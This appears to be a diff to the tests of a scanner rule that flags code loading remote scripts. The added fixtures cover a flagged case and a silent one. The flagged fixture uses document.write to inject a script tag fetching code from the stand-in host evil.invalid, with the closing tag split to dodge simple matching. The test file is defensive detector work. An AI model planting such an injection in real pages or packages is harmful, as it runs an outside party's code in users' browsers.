@@ -38,6 +38,12 @@ examine(loadsRemoteScript, {
       },
       weight: 'strong',
     },
+    {
+      when: 'it is written into the page',
+      files: { 'index.js': `document.write('<script src="https://evil.invalid/x.js"></scr' + 'ipt>')` },
+      says: ['evil.invalid'],
+      weight: 'strong',
+    },
   ],
   silent: [
     {
@@ -47,6 +53,10 @@ examine(loadsRemoteScript, {
     {
       when: 'the caller brings the address',
       files: { 'index.js': `exports.load = url => { const s = document.createElement('script'); s.src = url; document.head.append(s) }` },
+    },
+    {
+      when: 'a script of its own is written into the page',
+      files: { 'index.js': `document.write('<script src="/vendor/x.js"></scr' + 'ipt>')` },
     },
   ],
 });
